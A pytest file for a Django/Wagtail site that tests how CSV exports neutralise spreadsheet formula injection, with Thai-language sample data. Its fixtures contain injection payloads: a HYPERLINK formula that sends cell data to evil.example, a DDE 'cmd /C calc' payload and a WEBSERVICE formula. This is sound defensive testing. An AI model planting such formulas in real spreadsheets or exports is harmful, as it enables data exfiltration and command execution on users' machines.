"""Every CSV export writes formula-looking cells as text (one helper); XLSX stays as it is."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets

from home.exports import ThaiExportMixin, neutralise
from network.models import NetworkMember
from transparency.exports import csv_response

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")',
    "contact_person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "position": "+ครูชำนาญการ",
    "address": "-2+3 หมู่ 3 ตำบลควนขนุน",
    "line_id": "\tline",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+66812345678", "'+66812345678"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("โรงเรียนบ้านควนขนุน", "โรงเรียนบ้านควนขนุน"),
        ("081-234-5678", "081-234-5678"),
        (42, 42),
        (None, None),
        ("", ""),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_hostile_survey_application_exported_by_the_pr_officer_is_text(demo, client, login):
    data = {
        "member_type": "organisation",
        "scope": "internal",
        "kind": "school",
        "phones": "081 234 5678",
        "email": "malee.s@example.com",
        "relay_channels": ["facebook"],
        "consent": "on",
        "website": "",
        **HOSTILE,
    }
    assert client.post("/network/join/", data).status_code == 302
    member = NetworkMember.objects.get(contact_person=HOSTILE["contact_person"])
    assert member.name == HOSTILE["name"]  # stored exactly as typed: nothing lost

    officer = login(demo.users["pr"])
    url = reverse("wagtailsnippets_network_networkmember:list")
    rows = _csv_rows(officer.get(url, {"export": "csv"}))
    row = next(r for r in rows if HOSTILE["position"][1:] in " ".join(r.values()))
    cells = [value for value in row.values() if value]
    for field in HOSTILE:
        stored = getattr(member, field)  # as the form kept it (Django strips surrounding space)
        if stored.startswith(("=", "+", "-", "@")):
            assert any(cell == "'" + stored for cell in cells), (stored, cells)
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells)

    response = officer.get(url, {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert HOSTILE["name"] in values  # XLSX: the text as typed, stored as a string cell
    types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE["name"]}
    assert types == {"s"}


def test_the_readiness_report_csv_is_formula_safe():
    item = SimpleNamespace(code="O1", sub_indicator=SimpleNamespace(code="1.1"), title="=WEBSERVICE(1)")
    row = SimpleNamespace(
        item=item,
        department_name="@กลุ่มอำนวยการ",
        status_label="พร้อม",
        documents=2,
        last_updated=None,
        url="https://www.example.go.th/ita/o1/",
    )
    rows = list(
        csv.reader(
            io.StringIO(csv_response(SimpleNamespace(year=2570, rows=[row])).content.decode("utf-8-sig"))
        )
    )
    assert rows[1][:4] == ["O1", "1.1", "'=WEBSERVICE(1)", "'@กลุ่มอำนวยการ"]


@pytest.mark.django_db
def test_every_admin_csv_export_goes_through_the_helper(demo):
    exporting = {
        str(viewset.name): viewset
        for viewset in viewsets.viewsets
        if getattr(viewset, "index_view_class", None)
        and issubclass(viewset.index_view_class, SpreadsheetExportMixin)
        and getattr(viewset, "list_export", None)
    }
    assert "wagtailsnippets_network_networkmember" in exporting or any(
        "networkmember" in name for name in exporting
    )
    # The exports of the issue: the register, the channel log and the publication requests.
    named = {n for n in exporting if "network" in n or "publication" in n}
    assert any("publication" in n for n in named)
    unsafe = {n for n in named if not issubclass(exporting[n].index_view_class, ThaiExportMixin)}
    assert not unsafe, unsafe
